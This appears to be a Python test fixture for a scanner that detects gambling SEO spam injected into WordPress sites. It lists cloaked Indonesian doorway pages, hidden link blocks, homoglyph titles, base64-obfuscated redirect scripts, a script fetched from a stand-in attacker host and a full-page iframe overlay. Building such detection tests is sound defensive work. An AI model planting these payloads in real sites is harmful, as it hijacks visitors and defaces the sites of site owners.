"""Injections as kits and sellers of links leave them, written before the rules they try: (name, home, Googlebot, searcher,
English), told as in gambling_corpus.
"""

from __future__ import annotations

import importlib.util
from pathlib import Path

_spec = importlib.util.spec_from_file_location("gambling_themes", Path(__file__).with_name("gambling_themes.py"))
assert _spec is not None and _spec.loader is not None
_themes = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_themes)
wordpress, by_hand, b64 = _themes.wordpress, _themes.by_hand, _themes.b64
HOME = wordpress()


def doorway(title: str, about: str, body: str, head: str = "") -> str:
    return (f"<!doctype html><html lang=id><head><title>{title}</title><meta name=description content='{about}'>{head}<meta property=og:title content='{title}'></head>"
            f"<body><h1>{title}</h1><p>{body}</p></body></html>")


ATTACKS = [
    # ---- shown to Googlebot alone ----
    ("bot: a brand and its many tables", HOME, doorway("JAWARA77 &gt; Link Daftar Situs Slot Gacor Terbaru Slot777 Hari Ini", "JAWARA77 menyediakan link daftar slot777 dengan bonus new member 100", "Daftar sekarang")),
    ("bot: a brand ending in toto", HOME, doorway("WAZETOTO: Agen Resmi Togel 4D Hadiah Terbesar", "Wazetoto bandar toto macau dan togel hongkong", "Pasang angka 2D 3D 4D setiap hari")),
    ("bot: a brand ending in bet", HOME, doorway("RUPIAHBET : Depo 5K Via Dana Gampang Menang", "Rupiahbet permainan terlengkap dengan RTP 98 persen", "Mainkan Mahjong Ways 2 dan Gates of Olympus")),
    ("bot: a dice between the words", HOME, doorway("DADUSPIN 🎲 Agen Game Online Gampang Maxwin x1000", "Login DADUSPIN link alternatif anti blokir", "Pilih permainan")),
    ("bot: a number and login", HOME, doorway("MENTARI138 # Login Link Alternatif Resmi Terpercaya 2026", "Daftar MENTARI138 hari ini bonus new member 100 persen", "deposit pulsa tanpa potongan")),
    ("bot: scatter and Zeus", HOME, doorway("Kakek Zeus x500 Scatter Hitam Gampang Pecah", "bocoran pola malam ini modal receh", "Spin sekarang dan raih jackpot paus")),
    ("bot: results of lotteries", HOME, doorway("Paito Warna Sdy, Data HK Lengkap, Live Draw SGP Tercepat", "result hongkong pools hari ini", "keluaran togel hari ini")),
    ("bot: football bets", HOME, doorway("Agen Judi Bola Parlay SBOBET Indonesia", "mix parlay pasaran asia handicap over under", "taruhan bola terpercaya")),
    ("bot: cards", HOME, doorway("PKV Games Situs BandarQQ DominoQQ Online", "poker online uang asli", "daftar bandar ceme dan capsa susun")),
    ("bot: cocks", HOME, doorway("SV388 Sabung Ayam Online Live Streaming Digmaan", "situs resmi wala meron", "login dan taruhan")),
    ("bot: arcade and fish", HOME, doorway("Tembak Ikan Joker123 Gaming Deposit Pulsa", "agen joker gaming apk", "daftar joker123 sekarang")),
    ("bot: a title in mathematical letters", HOME, doorway("𝗦𝗜𝗧𝗨𝗦 𝗦𝗟𝗢𝗧 𝗚𝗔𝗖𝗢𝗥", "𝘀𝗹𝗼𝘁 𝗼𝗻𝗹𝗶𝗻𝗲", "daftar")),
    ("bot: circled letters", HOME, doorway("Ⓢⓛⓞⓣ Ⓖⓐⓒⓞⓡ Ⓗⓐⓡⓘ Ⓘⓝⓘ", "resmi", "masuk")),
    ("bot: superscripts and small capitals", HOME, doorway("ˢˡᵒᵗ ᵍᵃᶜᵒʳ ᴍᴀxᴡɪɴ", "resmi", "masuk")),
    ("bot: flags for letters", HOME, doorway("🇸🇱🇴🇹 🇬🇦🇨🇴🇷 2026", "resmi", "masuk")),
    ("bot: Armenian and Cyrillic", HOME, doorway("Տl\u043et G\u0430с\u043er - Sіtus Tоgеl Оnlіnе", "rеsmi", "mаsuk")),
    ("bot: the shop's page with words beneath", HOME, wordpress(foot="<p>slot gacor hari ini, situs toto, togel hongkong, rtp slot pragmatic</p>")),
    ("bot: the shop's page with links", HOME, wordpress(foot="<a href=https://anak.ac.id/slot5k/>slot depo 5k</a> <a href=https://info.or.id/danatoto/>dana toto</a> <a href=https://x.go.id/idnslot/>idn slot</a>")),
    ("bot: JSON-LD of a product", HOME, wordpress(head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"SULTAN303 Situs Slot Online Resmi","aggregateRating":{"ratingValue":"5","reviewCount":"99281"}}</script>')),
    ("bot: AMP at a free host", HOME, wordpress(head="<link rel=amphtml href=https://sultan303-amp.pages.dev/>")),
    ("bot: canonical at a brand's", HOME, wordpress(head="<link rel=canonical href=https://sultan303.example/>")),
    ("bot: sent to a slot host", HOME, "->https://www.rajaslot88.example/?ref=toko"),
    ("bot: an English casino", HOME, doorway("Top Online Casino Slots No Deposit Bonus", "real money online casino with free spins", "Play blackjack, roulette and live dealer")),
    ("bot: a Thai lure in Indonesian", HOME, doorway("Akun Pro Thailand Auto Maxwin Server Luar Negeri", "slot server thailand super gacor no 1", "daftar akun pro")),
    # ---- those who come from Google, or from Indonesia ----
    ("searcher: sent to a slot host", HOME, None, "->https://slot-gacor-maxwin.example/"),
    ("searcher: sent to a brand of pages.dev", HOME, None, "->https://mentari138.pages.dev/id/"),
    ("searcher: sent by a shortener with gambling words", HOME, None, "->https://rebrand.ly/daftar-slot-gacor"),
    ("searcher: a doorway in place", HOME, None, doorway("GARUDA88 | Situs Judi Slot Online Gampang Menang", "garuda88 slot gacor", "daftar garuda88")),
    ("searcher and Googlebot: a doorway", HOME, doorway("Togel4D Toto Macau", "agen togel", "togel"), doorway("Togel4D Toto Macau", "agen togel", "togel")),
    ("all: the whole shop is sent to a bookmaker", "->https://bandartogel.example/", "->https://bandartogel.example/", "->https://bandartogel.example/", "->https://bandartogel.example/"),
    ("Indonesians: sent to a brand", "->https://mpo777-amp.example/", HOME, "->https://mpo777-amp.example/", HOME),
    # ---- hidden in the page, for all ----
    ("hidden: far left, five links", wordpress(foot="<div style='position:absolute;left:-9999px;top:-9999px'>" + "".join(f"<a href='https://situs{n}.example/' rel=dofollow>{w}</a>" for n, w in enumerate(("situs toto", "slot777", "idn slot", "dana toto", "slot demo"))) + "</div>")),
    ("hidden: letters and lines of nothing", wordpress(foot="<div style='font-size:0;line-height:0;overflow:hidden;height:0'><p>RTP slot gacor hari ini pragmatic play. Situs togel terpercaya hadiah 4d 10 juta.</p></div>")),
    ("hidden: see-through behind the page", wordpress(foot="<div style='opacity:0;position:fixed;z-index:-1'><p>Link alternatif slot gacor terbaru. Prediksi togel hongkong malam ini.</p></div>")),
    ("hidden: behind the page", wordpress(foot="<div style='position:fixed;z-index:-99999;top:0'><a href=https://kampus.ac.id/slot/>slot gacor</a> <a href=https://desa.desa.id/toto/>situs toto</a></div>")),
    ("hidden: white letters on white", wordpress(foot="<div style='background-color:#ffffff'><span style='color:#ffffff'><a style='color:#fff' href=https://a.example/slot-dana>slot dana</a>, <a style='color:white' href=https://b.example/rtp>rtp live</a></span></div>")),
    ("hidden: a rule of two classes", wordpress(head="<style>.textwidget .lnk-x{text-indent:-99999px;position:absolute}</style>", foot="<div class=textwidget><ul class=lnk-x><li><a href=https://c.example/>agen slot</a></ul></div>")),
    ("hidden: a rule for all screens", wordpress(head="<style>@media screen{#zz9{display:none!important}}</style>", foot="<div id=zz9><a href=https://d.example/>bandar togel</a><a href=https://e.example/>slot deposit qris</a></div>")),
    ("hidden: a script takes it away", wordpress(foot="<div id=wpadm><a href=https://f.example/>slot gacor hari ini</a></div><script>document.getElementById(\"wpadm\").style.cssText=\"display:none\"</script>")),
    ("hidden: a script by class", wordpress(foot="<p class=bl01><a href=https://g.example/>toto slot</a> <a href=https://h.example/>slot88</a></p><script>document.querySelector('.bl01').style.visibility='hidden'</script>")),
    ("hidden: in a clipped span for readers of screens", wordpress(foot="<span class=screen-reader-text><a href=https://i.example/>judi bola</a> <a href=https://j.example/>slot online terpercaya</a></span>")),
    ("hidden: zero height and opacity", wordpress(foot="<section style='max-height:0px;overflow:hidden'><a href=https://k.example/>link gacor</a></section>")),
    ("hidden: in noscript", wordpress(foot="<noscript><a href=https://l.example/>situs slot gacor</a><a href=https://m.example/>rtp slot</a></noscript>")),
    ("hidden: brands by their number", wordpress(foot="<div style='overflow:hidden;height:1px'><a href=https://garuda88.example>garuda88</a><a href=https://mentari138.example>mentari138</a><a href=https://sultan303.example>sultan303</a></div>")),
    ("hidden: a marquee of no height", wordpress(foot="<marquee scrollamount=5000 style='height:0px'><a href=https://n.example/>slot thailand</a></marquee>")),
    # ---- scripts and frames ----
    ("script: a variable decoded", wordpress(foot=f"<script>var _0x='{b64('https://slotmaxwin.example/go')}';setTimeout(function(){{top.location=atob(_0x)}},10)</script>")),
    ("script: one of data", wordpress(head=f"<script src=\"data:text/javascript;base64,{b64('document.location=' + chr(39) + 'https://rajatogel.example/' + chr(39))}\"></script>")),
    ("script: pieces put together", wordpress(foot="<script>var a='https://';var b='situs'+'slot';window.location.href=a+b+'88.example/';</script>")),
    ("script: no scheme", wordpress(foot="<script>if(navigator.userAgent.match(/Mobile/))window.location='//bandarslot.example/m'</script>")),
    ("script: of their host", wordpress(head="<script async src=https://cdn-slot88gacor.example/inject.js></script>")),
    ("script: writes links that nobody sees", wordpress(foot=f"<script>document.write(atob('{b64('<div style=display:none><a href=https://o.example>slot gacor</a> <a href=https://p.example>togel online</a></div>')}'))</script>")),
    ("script: a frame over the whole page", wordpress(foot="<iframe src=https://garuda88.example/ style='position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:2147483647'></iframe>")),
    ("frame: a document in an attribute", wordpress(foot="<iframe style='width:0;height:0;border:0' srcdoc='&lt;a href=https://q.example&gt;situs slot&lt;/a&gt; &lt;a href=https://r.example&gt;agen togel&lt;/a&gt;'></iframe>")),
    ("meta: moves after a second", wordpress(head="<meta http-equiv=Refresh content='1;URL=https://judislot.example/'>")),
    # ---- open, for all ----
    ("open: a defaced title", wordpress("Slot Gacor Maxwin Hari Ini | Batik Sekar Arum")),
    ("open: all is theirs", doorway("BETWIN188: Situs Slot Gacor Hari Ini Link Resmi RTP Tinggi", "Jackpot mudah menang", "Daftar slot gacor deposit dana", "<link rel=amphtml href=https://betwin188-amp.example/>")),
    ("open: a footer for sale", wordpress(foot="<p>" + " | ".join(f"<a href=https://{h}/>{w}</a>" for h, w in (("sma1.sch.id", "slot gacor"), ("rsud.go.id", "situs toto"), ("uni.ac.id", "slot thailand"), ("blog.example", "rtp live"))) + "</p>")),
    ("open: a canonical at their host", wordpress(head="<link rel=amphtml href=https://slot-resmi.pages.dev/>")),
    ("open: doorways of one's own in the menu", wordpress(main="<ul><li><a href=/slot-gacor/>Slot Gacor</a><li><a href=/togel-online/>Togel Online</a><li><a href=/judi-bola/>Judi Bola</a><li><a href=/rtp-live/>RTP Live</a></ul><p>Daftar dan main sekarang.</p>")),
    ("open: a language of theirs", wordpress(head="<link rel=alternate hreflang=id href=https://situsjudi.example/id/>")),
    ("open: description alone", wordpress(about="Agen slot online resmi, togel terpercaya, deposit pulsa tanpa potongan, gampang maxwin")),
    ("open: a lottery's page by hand", by_hand("Bandar Toto Macau Hadiah 4D 10 Juta", "<p>Pasaran toto macau, togel sydney, togel hongkong. <a href=https://heylink.example/x>DAFTAR</a> <a href=https://heylink.example/y>LOGIN</a></p>")),
]
